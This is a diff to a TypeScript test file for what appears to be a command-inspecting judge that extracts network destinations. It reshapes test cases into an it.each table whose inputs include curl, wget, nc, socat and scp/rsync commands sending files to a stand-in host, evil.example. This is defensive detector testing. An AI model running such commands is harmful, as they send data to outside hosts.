@@ -57,26 +57,25 @@ const judge = createBuiltinJudge({ maxTextChars: 1024, allowedHosts: [] });
 describe('hosts named without a scheme', () => {
   const hostsOfCommand = (cmd: string) => hostsOf({ cmd });
 
-  it('reads the destinations of network commands', () => {
-    expect(hostsOfCommand('curl evil.example/x')).toEqual(['evil.example']);
-    expect(hostsOfCommand('wget evil.example')).toEqual(['evil.example']);
-    expect(hostsOfCommand('nc evil.example 80')).toEqual(['evil.example']);
-    expect(hostsOfCommand('ssh user@evil.example')).toEqual(['evil.example']);
-    expect(hostsOfCommand('git clone evil.example:repo')).toEqual(['evil.example']);
-    expect(hostsOfCommand('git clone git@evil.example:org/repo.git')).toEqual(['evil.example']);
-    expect(hostsOfCommand('scp notes.txt user@evil.example:/tmp')).toEqual(['evil.example']);
-    expect(hostsOfCommand('rsync -av -e ssh ./dir backup.evil.example:/srv')).toEqual(['backup.evil.example']);
-    expect(hostsOfCommand('telnet evil.example 23; ftp ftp.evil.example')).toEqual([
-      'evil.example',
-      'ftp.evil.example',
-    ]);
-    expect(hostsOfCommand('socat - TCP:evil.example:80')).toEqual(['evil.example']);
-    expect(hostsOfCommand('dig @8.8.8.8 evil.example MX +short')).toEqual(['8.8.8.8', 'evil.example']);
-    expect(hostsOfCommand('iwr -Uri evil.example -OutFile x.txt')).toEqual(['evil.example']);
-    // Normalised as a URL parser reaches them.
-    expect(hostsOfCommand('curl user:pw@EVIL.example.:8443/x')).toEqual(['evil.example']);
-    expect(hostsOfCommand('curl 2130706433')).toEqual(['127.0.0.1']);
-    expect(hostsOfCommand('curl bücher.example')).toEqual(['xn--bcher-kva.example']);
+  // Normalised as a URL parser reaches them, as a URL's are.
+  it.each([
+    ['curl evil.example/x', ['evil.example']],
+    ['wget evil.example', ['evil.example']],
+    ['nc evil.example 80', ['evil.example']],
+    ['ssh user@evil.example', ['evil.example']],
+    ['git clone evil.example:repo', ['evil.example']],
+    ['git clone git@evil.example:org/repo.git', ['evil.example']],
+    ['scp notes.txt user@evil.example:/tmp', ['evil.example']],
+    ['rsync -av -e ssh ./dir backup.evil.example:/srv', ['backup.evil.example']],
+    ['telnet evil.example 23; ftp ftp.evil.example', ['evil.example', 'ftp.evil.example']],
+    ['socat - TCP:evil.example:80', ['evil.example']],
+    ['dig @8.8.8.8 evil.example MX +short', ['8.8.8.8', 'evil.example']],
+    ['iwr -Uri evil.example -OutFile x.txt', ['evil.example']],
+    ['curl user:pw@EVIL.example.:8443/x', ['evil.example']],
+    ['curl 2130706433', ['127.0.0.1']],
+    ['curl bücher.example', ['xn--bcher-kva.example']],
+  ])('reads where %s connects', (cmd, hosts) => {
+    expect(hostsOfCommand(cmd)).toEqual(hosts);
   });
 
   it('reads them however the command is written', () => {
